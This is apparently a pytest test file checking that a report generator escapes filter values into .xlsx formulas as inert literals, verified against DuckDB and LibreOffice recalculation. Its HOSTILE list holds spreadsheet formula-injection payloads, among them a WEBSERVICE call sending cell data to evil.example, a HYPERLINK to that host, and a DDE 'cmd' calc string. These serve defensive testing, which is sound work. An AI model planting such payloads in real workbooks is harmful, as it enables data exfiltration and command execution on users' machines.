"""Text from a plan or the data enters an .xlsx formula only as an escaped literal, and the formula computes DuckDB's figure."""

from __future__ import annotations

import csv
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.formula import Tokenizer

from docagent.engine.bind import bind
from docagent.engine.data.catalog import Catalog
from docagent.engine.data.sql import quote
from docagent.engine.plan import Plan
from docagent.engine.validate import validate
from docagent.renderers import render_all
from docagent.renderers.common import formula_text
from tests.conftest import needs_soffice

HOSTILE = [
    'South")+_xlfn.WEBSERVICE("http://evil.example/x/"&B2)+("',
    '12" pipe',
    '"',
    '""',
    "a'b",
    '=1+1")&("',
    'x),HYPERLINK("http://evil.example","y"',
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
]
ALLOWED_FUNCTIONS = {
    "SUMIFS(",
    "COUNTIFS(",
    "AVERAGEIFS(",
    "MINIFS(",
    "MAXIFS(",
    "SUM(",
    "ROWS(",
    "_xlfn.MINIFS(",
    "_xlfn.MAXIFS(",
}


def literal_value(token: str) -> str:
    assert token[0] == token[-1] == '"', token
    return token[1:-1].replace('""', '"')


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_text_is_one_string_literal_that_reads_back_as_the_value(value):
    tokens = Tokenizer(f"=SUMIFS(A1:A9,B1:B9,{formula_text(value)})").items
    texts = [t for t in tokens if t.type == "OPERAND" and t.subtype == "TEXT"]
    assert len(texts) == 1 and literal_value(texts[0].value) == value
    assert [t.value for t in tokens if t.type == "FUNC" and t.subtype == "OPEN"] == ["SUMIFS("]


@pytest.mark.parametrize("value", ["a\nb", "tab\there", "bell\x07", "x" * 256])
def test_formula_text_refuses_what_no_literal_can_hold(value):
    with pytest.raises(ValueError):
        formula_text(value)


def workbook_for(tmp: Path, value: str, others: list[str]) -> tuple[Path, float | None]:
    """A sales table whose regions include `value`; the workbook sums revenue where region = value."""
    data = tmp / "regions.csv"
    with data.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, quoting=csv.QUOTE_NONNUMERIC)  # every text quoted: nothing for the sniffer to guess
        w.writerow(["region", "revenue"])
        for i, region in enumerate(["North", "South", value, *others, value]):
            w.writerow([region, 10 * (i + 1) + 0.5])
    plan: dict[str, Any] = {
        "meta": {"title": "Filters"},
        "metrics": [
            {
                "name": "picked",
                "label": "Picked",
                "dataset": "regions",
                "agg": "sum",
                "column": "revenue",
                "filters": [{"column": "region", "op": "eq", "value": value}],
            }
        ],
        "blocks": [
            {"type": "kpis", "items": [{"metric": "picked"}]},
            {
                "type": "table",
                "title": "Revenue by region",
                "query": {
                    "dataset": "regions",
                    "select": [{"column": "region"}, {"column": "revenue", "agg": "sum", "label": "Revenue"}],
                    "filters": [{"column": "region", "op": "ne", "value": value}],
                },
            },
        ],
    }
    with Catalog() as catalog:
        catalog.ingest(data)
        table = quote(catalog.datasets["regions"].table)
        expected = catalog.con.execute(f"SELECT sum(revenue) FROM {table} WHERE region = ?", [value]).fetchone()[0]
        bound = bind(validate(Plan.model_validate(plan), catalog), catalog)
    files, _ = render_all(bound, "corporate", tmp, "filters", ["xlsx"])
    return files["xlsx"], expected


def formulas_of(path: Path) -> list[tuple[str, str, Any]]:
    """(cell, formula, cached value) of every formula on the Summary sheet."""
    ws = openpyxl.load_workbook(path)["Summary"]
    cached = openpyxl.load_workbook(path, data_only=True)["Summary"]
    return [
        (c.coordinate, c.value, cached[c.coordinate].value)
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith("=")
    ]


def assert_only_literals(formula: str, value: str) -> None:
    tokens = Tokenizer(formula).items
    functions = {t.value for t in tokens if t.type == "FUNC" and t.subtype == "OPEN"}
    assert functions <= ALLOWED_FUNCTIONS, (formula, functions)
    texts = [literal_value(t.value) for t in tokens if t.type == "OPERAND" and t.subtype == "TEXT"]
    assert set(texts) <= {value, "<>", "<>" + value, ">=", "<"}, (formula, texts)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_filter_value_never_becomes_formula_text(tmp_path, value):
    path, expected = workbook_for(tmp_path, value, [])
    found = formulas_of(path)
    kpi = [f for f in found if f[0] == "A4"]
    if value.startswith(("=", "<", ">")):  # Excel would read an operator: the figure is written as a value
        assert kpi == [] and openpyxl.load_workbook(path)["Summary"]["A4"].value == pytest.approx(expected)
    else:
        assert kpi and value.replace('"', '""') in kpi[0][1], found  # the filter is live, as an escaped literal
        assert kpi[0][2] == pytest.approx(expected)
    for _, formula, _ in found:
        assert_only_literals(formula, value)


# Latin text and the characters that mean something in a formula; CJK needs a font this test does not
PRINTABLE = st.text(
    st.one_of(
        st.characters(max_codepoint=0x24F, blacklist_categories=("Cc", "Cs")), st.sampled_from("\"'&()=<>,;!$@+-*?~")
    ),
    min_size=1,
    max_size=30,
)


@given(value=PRINTABLE, others=st.lists(PRINTABLE, max_size=3))
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_filter_value_parses_as_a_literal_and_the_cached_value_is_duckdbs(tmp_path_factory, value, others):
    path, expected = workbook_for(tmp_path_factory.mktemp("prop"), value, others)
    found = formulas_of(path)
    for _, formula, _ in found:
        assert_only_literals(formula, value)
    kpi = openpyxl.load_workbook(path, data_only=True)["Summary"]["A4"].value
    if expected is None:  # no row matched (blank text is read as null): nothing is cached as a figure
        assert kpi in (None, "–")
    else:
        assert kpi == pytest.approx(expected)


@needs_soffice
def test_libreoffice_recalculates_hostile_filters_to_duckdbs_figures(tmp_path):
    """The formula is not only inert: recalculated from scratch, it gives the figure DuckDB computed."""
    paths: list[tuple[Path, float | None]] = []
    for n, value in enumerate([*HOSTILE, "south", "1.0"]):
        # "south" next to "South" and "1.0" next to "1" are the cases where Excel's criteria would widen the match
        (tmp_path / str(n)).mkdir()
        paths.append(workbook_for(tmp_path / str(n), value, ["South", "1"]))
    stripped = tmp_path / "stripped"
    stripped.mkdir()
    for n, (path, _) in enumerate(paths):
        wb = openpyxl.load_workbook(path)  # saved by openpyxl: formulas without cached values
        wb.save(stripped / f"{n}.xlsx")
    out = tmp_path / "out"
    subprocess.run(
        ["soffice", "-env:UserInstallation=file:///tmp/lo-sec-tests", "--headless", "--convert-to",
         "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), *sorted(map(str, stripped.glob("*.xlsx")))],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    for n, (_, expected) in enumerate(paths):
        got = openpyxl.load_workbook(out / f"{n}.xlsx", data_only=True)["Summary"]["A4"].value
        assert got == pytest.approx(expected), (n, got, expected)
